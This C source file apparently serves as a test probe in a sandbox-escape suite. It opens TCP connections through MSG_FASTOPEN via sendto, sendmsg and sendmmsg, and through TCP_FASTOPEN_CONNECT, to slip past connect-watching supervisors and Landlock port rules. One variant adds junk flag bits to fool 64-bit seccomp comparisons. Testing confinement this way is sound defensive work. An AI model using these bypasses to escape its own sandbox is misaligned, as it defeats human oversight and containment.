/* SPDX-License-Identifier: LGPL-2.1-or-later */

/*
 * A connection opened by sending: MSG_FASTOPEN connects without connect(2), past a supervisor that
 * sees only that and past Landlock's port rules.
 *
 *	fastopen sendto|sendmsg|sendmmsg|sendto-junk PLACE
 */

#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <string.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <unistd.h>

#include "attack.h"

static char letter[] = "out of the cage";

static struct msghdr message_to(struct place *place, struct iovec *iov)
{
	struct msghdr message = {.msg_iov = iov, .msg_iovlen = 1};

	iov->iov_base = letter;
	iov->iov_len = sizeof(letter);
	message.msg_name = &place->address;
	message.msg_namelen = place->length;
	return message;
}

/* Whether the handshake was completed: the socket becomes writable and has a peer. */
static int outcome(int fd, long sent, const char *call)
{
	struct sockaddr_storage peer;
	socklen_t length = sizeof(peer);
	struct pollfd wait = {.fd = fd, .events = POLLOUT};

	if (sent < 0 && errno != EINPROGRESS)
		return stopped_by(call);
	poll(&wait, 1, 2000);
	if (getpeername(fd, (struct sockaddr *)&peer, &length) < 0)
		return stopped("%s went through, but nothing is connected", call);
	usleep(100 * 1000);
	return succeeded("%s connected the socket", call);
}

static int by_sendto(char **args)
{
	struct place place = place_parse(args[0]);
	int fd = place_socket(&place, SOCK_STREAM);

	need(fd >= 0, "socket");
	return outcome(fd,
		sendto(fd, letter, sizeof(letter), MSG_FASTOPEN, (struct sockaddr *)&place.address,
			place.length),
		"sendto");
}

/* The kernel takes flags for an int; a filter that compares 64 bits does not see the flag. */
static int by_sendto_junk(char **args)
{
	struct place place = place_parse(args[0]);
	int fd = place_socket(&place, SOCK_STREAM);

	need(fd >= 0, "socket");
	return outcome(fd,
		syscall(SYS_sendto, fd, letter, sizeof(letter), MSG_FASTOPEN | JUNK, &place.address,
			(long)place.length),
		"sendto");
}

static int by_sendmsg(char **args)
{
	struct place place = place_parse(args[0]);
	struct iovec iov;
	struct msghdr message = message_to(&place, &iov);
	int fd = place_socket(&place, SOCK_STREAM);

	need(fd >= 0, "socket");
	return outcome(fd, sendmsg(fd, &message, MSG_FASTOPEN), "sendmsg");
}

static int by_sendmmsg(char **args)
{
	struct place place = place_parse(args[0]);
	struct iovec iov;
	struct mmsghdr messages = {.msg_hdr = message_to(&place, &iov)};
	int fd = place_socket(&place, SOCK_STREAM);

	need(fd >= 0, "socket");
	return outcome(fd, sendmmsg(fd, &messages, 1, MSG_FASTOPEN), "sendmmsg");
}

/* TCP_FASTOPEN_CONNECT makes connect(2) succeed at once and the first send connect. */
static int by_option(char **args)
{
	struct place place = place_parse(args[0]);
	int on = 1, fd = place_socket(&place, SOCK_STREAM);

	need(fd >= 0, "socket");
	if (setsockopt(fd, IPPROTO_TCP, TCP_FASTOPEN_CONNECT, &on, sizeof(on)) < 0)
		return stopped_by("setsockopt");
	if (connect(fd, (struct sockaddr *)&place.address, place.length) < 0)
		return stopped_by("connect");
	return outcome(fd, send(fd, letter, sizeof(letter), 0), "send");
}

static const struct trick tricks[] = {
	{"sendto", by_sendto, 1},
	{"sendto-junk", by_sendto_junk, 1},
	{"sendmsg", by_sendmsg, 1},
	{"sendmmsg", by_sendmmsg, 1},
	{"option", by_option, 1},
};

int main(int argc, char **argv)
{
	return trick_run(tricks, ARRAY_SIZE(tricks), argc, argv);
}
